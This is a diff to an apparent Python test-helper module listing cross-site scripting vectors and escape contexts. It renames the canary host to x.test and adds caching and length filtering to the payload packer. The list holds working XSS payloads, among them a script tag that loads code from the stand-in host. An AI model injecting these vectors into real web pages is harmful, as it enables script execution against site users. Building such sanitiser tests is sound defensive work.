@@ -1,16 +1,17 @@
 """Texts that would run as scripts wherever a text escapes its place: vectors in contexts.
 
-Each calls `xss()`, or asks the host `canary.example`.
+Each calls `xss()`, or asks the host `x.test`.
 """
 
+from functools import cache
 from itertools import product
 
-CANARY = "canary.example"
+CANARY = "x.test"
 CALL = "xss()"
 VECTORS = (
     "<script>xss()</script>",
     "<ScRiPt\n>xss()</sCrIpT >",
-    "<script/src=//canary.example/a.js></script>",
+    "<script/src=//x.test/a.js></script>",
     "<img src=x onerror=xss()>",
     "<img/src='x'/onerror='xss()'>",
     "<svg onload=xss()>",
@@ -21,14 +22,14 @@ VECTORS = (
     "<details open ontoggle=xss()>x",
     "<input autofocus onfocus=xss()>",
     "<video><source onerror=xss()></video>",
-    "<object data=//canary.example/a>",
-    "<embed src=//canary.example/a>",
-    "<link rel=stylesheet href=//canary.example/a.css>",
-    "<style>@import'//canary.example/a.css';</style>",
+    "<object data=//x.test/a>",
+    "<embed src=//x.test/a>",
+    "<link rel=stylesheet href=//x.test/a.css>",
+    "<style>@import'//x.test/a.css';</style>",
     "<math><mtext><img src=x onerror=xss()>",
-    "<p style='background:url(//canary.example/a)'>x",
+    "<p style='background:url(//x.test/a)'>x",
     "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
-    "<table background=//canary.example/a><td>x",
+    "<table background=//x.test/a><td>x",
 )
 # What a text may have to close before it is read as markup.
 CONTEXTS = (
@@ -67,11 +68,12 @@ def packed(limit: int, start: int) -> str:
     return text.strip()
 
 
-def packs(limit: int) -> list[str]:
-    """Return all payloads, in texts of at most `limit` characters."""
+@cache
+def packs(limit: int) -> tuple[str, ...]:
+    """Return all payloads that fit into `limit` characters, in texts of at most that length."""
     found = [""]
-    for payload in PAYLOADS:
+    for payload in (payload for payload in PAYLOADS if len(payload) <= limit):
         if len(found[-1]) + len(payload) + 1 > limit:
             found.append("")
         found[-1] = f"{found[-1]} {payload}".strip()
-    return found
+    return tuple(found)
